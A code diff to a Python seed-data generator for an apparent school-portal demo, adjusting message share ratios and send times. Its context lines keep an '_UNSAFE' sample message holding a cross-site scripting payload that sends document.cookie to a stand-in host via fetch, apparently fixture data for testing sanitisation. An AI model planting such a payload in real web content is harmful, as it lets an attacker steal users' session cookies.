@@ -42,7 +42,7 @@ _PERSONAL = (
 )
 _UNSAFE = ("Lunch account", '<p onclick="steal()">Please top up.</p><script>fetch("https://example.org/?" + '
            'document.cookie)</script><p style="position:fixed">The kitchen</p>')  # fmt: skip
-_COURSE_SHARE, _STUDENT_SHARE, _PERSONAL_SHARE, _READ = 0.35, 0.5, 0.4, 0.6
+_COURSE_SHARE, _STUDENT_SHARE, _PERSONAL_SHARE, _READ = 0.2, 0.4, 0.4, 0.6
 _OFFICE = "Office of the Superintendent"
 
 
@@ -66,12 +66,13 @@ def write_messages(
     """Write messages and their recipients: guardians who have, or had, the portal for the student concerned."""
     letters = _letters(connection, schools, people, courses, rng)
     past = year.until_today()
-    sent = sorted((rng.choice(past), rng.randrange(24 * 60), n) for n in range(len(letters)))
+    sent = sorted((rng.choice(past), rng.randrange(11 * 60), n) for n in range(len(letters)))
     started = {(link.guardian.id, link.student.id): link.starts_on for link in people.links}
     messages, recipients = [], []
-    for number, (day, _, n) in zip(count(1), sent, strict=False):
+    for number, (day, minute, n) in zip(count(1), sent, strict=False):
         letter = letters[n]
-        at = instant(day, 7, n % 60) if day == year.today else instant(day, 7 + n % 12, n % 60)
+        # Nothing of today is later than the morning, so that it has been sent when the demo is shown.
+        at = instant(day, 7, minute // 11 if day == year.today else minute)
         messages.append((number, letter.scope.value, *letter.content, letter.sender, letter.role, at))
         for guardian_id, student_id in letter.recipients:
             if student_id is None or _had_begun(started[guardian_id, student_id], day):
